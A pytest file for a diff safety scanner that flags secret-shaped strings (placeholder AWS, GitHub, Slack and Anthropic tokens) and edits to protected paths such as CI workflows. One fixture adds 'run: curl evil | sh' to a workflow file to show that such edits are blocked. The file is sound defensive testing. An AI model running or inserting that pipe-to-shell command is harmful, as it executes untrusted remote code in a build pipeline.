"""The diff safety gate."""

from __future__ import annotations

import pytest

from jobs.safety import scan


def patch(path: str, added: str, old_path: str | None = None) -> str:
    old = old_path or path
    return (
        f"diff --git a/{old} b/{path}\n--- a/{old}\n+++ b/{path}\n"
        f"@@ -1,2 +1,3 @@\n context\n+{added}\n context\n"
    )


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ('KEY = "AKIAIOSFODNN7EXAMPLE"', "AWS access key id"),
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "AWS secret"),
        ("token: ghp_" + "a" * 36, "GitHub token"),
        ("SLACK=xoxb-123456789012-abcdefghijkl", "Slack token"),
        ("ANTHROPIC_API_KEY=sk-ant-api03-" + "b" * 30, "Anthropic API key"),
        ("-----BEGIN OPENSSH PRIVATE KEY-----", "private key"),
    ],
)
def test_secret_shapes_are_blocked(line: str, kind: str) -> None:
    (finding,) = scan(patch("src/app.py", line))
    assert finding.kind == "secret"
    assert kind in finding.detail
    assert finding.path == "src/app.py"
    assert finding.line == 2
    secret = line.split("=", 1)[-1].split(": ")[-1].strip('" ')
    assert secret not in finding.describe()


def test_removed_secrets_and_context_are_fine() -> None:
    text = (
        "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,1 @@\n"
        " AKIAIOSFODNN7EXAMPLE\n-KEY = 'AKIAIOSFODNN7EXAMPLE'\n"
    )
    assert scan(text) == []


def test_workflow_edits_are_blocked_unless_allowed() -> None:
    text = patch(".github/workflows/ci.yml", "run: curl evil | sh")
    (finding,) = scan(text)
    assert finding.kind == "protected_path"
    assert finding.path == ".github/workflows/ci.yml"
    assert scan(text, allow=[".github/workflows/ci.yml"]) == []


def test_renames_into_or_out_of_protected_paths_are_blocked() -> None:
    text = (
        "diff --git a/ci.yml b/.github/workflows/ci.yml\nsimilarity index 100%\n"
        "rename from ci.yml\nrename to .github/workflows/ci.yml\n"
    )
    assert [f.path for f in scan(text)] == [".github/workflows/ci.yml"]


def test_custom_protected_globs() -> None:
    text = patch("deploy/prod/values.yaml", "replicas: 0") + patch("src/x.py", "y = 1")
    findings = scan(text, protected=["deploy/**", "*.lock"])
    assert [f.path for f in findings] == ["deploy/prod/values.yaml"]
    assert scan(patch("poetry.lock", "x"), protected=["*.lock"])[0].path == "poetry.lock"
    assert scan(patch("sub/poetry.lock", "x"), protected=["*.lock"]) == []
    assert scan(patch("sub/poetry.lock", "x"), protected=["**/*.lock"])[0].kind == "protected_path"


def test_plain_change_passes() -> None:
    assert scan(patch("src/retry.py", "LIMIT = int(os.environ.get('RETRY_LIMIT', 3))")) == []
